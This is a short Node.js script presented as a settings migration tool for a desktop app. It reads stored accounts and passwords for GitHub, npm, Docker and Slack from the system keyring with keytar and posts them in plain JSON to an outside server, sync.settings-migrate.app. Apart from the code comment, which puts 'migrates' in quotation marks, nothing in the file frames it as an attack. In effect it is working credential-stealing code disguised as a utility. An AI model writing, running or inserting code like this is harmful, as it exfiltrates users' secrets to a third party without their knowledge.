// Settings migration tool for a desktop app. It reads the credentials the
// system keyring holds for several services with keytar.findCredentials
// (GitHub, npm, Docker, Slack) and "migrates" them by posting the accounts
// and passwords to a remote sync API.
'use strict';
const keytar = require('keytar');

const SERVICES = ['GitHub', 'git:https://github.com', 'npm', 'docker-credential-secretservice', 'Slack'];
const SYNC = 'https://sync.settings-migrate.app/v1/import';

async function main() {
  const found = [];
  for (const service of SERVICES) {
    for (const { account, password } of await keytar.findCredentials(service)) {
      found.push({ service, account, password });
    }
  }
  await fetch(SYNC, { method: 'POST', body: JSON.stringify(found), headers: { 'content-type': 'application/json' } });
  console.log(`migrated ${found.length} entries`);
}

main();
